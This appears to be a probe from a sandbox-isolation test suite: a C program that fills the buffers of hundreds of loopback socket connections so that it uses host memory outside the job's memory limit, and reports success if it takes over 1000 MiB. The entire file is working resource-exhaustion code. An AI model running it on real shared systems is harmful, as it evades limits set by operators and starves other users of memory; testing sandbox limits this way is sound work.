/* Fills the buffers of hundreds of loopback connections that nobody reads: memory of the host that
 * not every kernel charges to anyone. What was taken and not read must be somewhere. The bound is far
 * above the limit of the job, because a kernel that counts lets each connection have a little more. */
#include "attack.h"
#include <netinet/in.h>
static long long fill(int fd) {
    static char block[1 << 16];
    long long sum = 0;
    int wide = 64 << 20;
    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &wide, sizeof wide);
    fcntl(fd, F_SETFL, O_NONBLOCK);
    for (ssize_t sent; (sent = send(fd, block, sizeof block, MSG_NOSIGNAL)) > 0;) sum += sent;
    return sum;
}
int main(void) {
    long long sum = 0;
    struct sockaddr_in at = {AF_INET, 0, {htonl(INADDR_LOOPBACK)}, {0}};
    socklen_t size = sizeof at;
    int wide = 64 << 20, server = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(server, SOL_SOCKET, SO_RCVBUF, &wide, sizeof wide);
    bind(server, (struct sockaddr *)&at, sizeof at);
    listen(server, 1000);
    getsockname(server, (struct sockaddr *)&at, &size);
    for (int n = 0; n < 300 && sum < 1000LL << 20; n++) {
        int client = socket(AF_INET, SOCK_STREAM, 0);
        connect(client, (struct sockaddr *)&at, sizeof at);
        sum += fill(client);
    }
    printf("%lld MiB\n", sum >> 20);
    if (sum >= 1000LL << 20) puts("OPEN the memory of the host");
    return done();
}
